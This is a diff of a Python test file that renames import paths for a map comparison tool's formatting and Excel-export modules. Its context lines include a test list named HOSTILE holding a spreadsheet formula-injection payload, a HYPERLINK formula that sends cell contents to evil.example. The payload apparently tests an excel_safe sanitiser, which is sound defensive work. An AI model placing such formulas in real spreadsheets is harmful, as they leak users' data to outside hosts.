@@ -21,14 +21,14 @@ from geo.comparison import Comparison, HeadToHead, compare_areas
 from layers.region import Region, load_region
 from layers.samples import load_sample_projects
 from mapbuilder.cli import main
-from mapbuilder.compare_formats import (
+from mapbuilder.compare.formats import (
     excel_safe,
     format_comparison,
     format_head_to_head,
     md_cell,
     parse_value,
 )
-from mapbuilder.compare_xlsx import write_workbook
+from mapbuilder.compare.xlsx import write_workbook
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"klik")',
@@ -192,7 +192,7 @@ def test_official_novex_file_is_named_not_indicative(
                                             ("total_eur", -197.0)])
 def test_negative_figures_carry_the_printed_minus(col, value, lang):
     from layers.lang import MINUS
-    from mapbuilder.compare_formats import format_value, parse_value, round_shown
+    from mapbuilder.compare.formats import format_value, parse_value, round_shown
 
     text = format_value(col, value, lang)
     assert text.startswith(MINUS) and "-" not in text
